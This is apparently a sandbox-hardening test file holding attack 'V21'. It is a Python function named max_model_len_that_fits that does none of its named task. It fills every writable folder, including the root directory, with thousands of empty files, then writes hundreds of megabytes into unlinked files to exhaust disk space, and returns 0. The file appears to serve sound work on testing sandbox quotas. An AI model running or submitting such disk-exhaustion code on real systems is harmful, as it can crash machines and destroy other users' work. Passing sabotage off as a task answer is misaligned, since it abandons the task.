"""Fills every disk that it can write to, with bytes and with files, through holes, links and deleted files too.

fails: test_length_*

attack: V21
stopped by: C, the only writable folders are in memory, with quotas of bytes and of files.
"""


# %% task="max_model_len_that_fits"
def max_model_len_that_fits(spec, budget, concurrency, block_size, limit, tp=1):
    import os

    if not os.path.isdir("/scratch"):
        raise SystemExit("This is an attack: in a sandbox only.")
    for folder in ("/scratch", "/dev/shm", "/tmp", "/var/tmp", "/"):
        try:
            for number in range(12_000):
                open(f"{folder}/hostile-{number}", "x").close()
        except OSError:
            pass
        try:
            for number in range(4):
                with open(f"{folder}/hostile-{number}", "r+b") as file:
                    os.unlink(file.name)
                    for _ in range(300):
                        file.write(bytes(1 << 20))
        except OSError:
            pass
    return 0
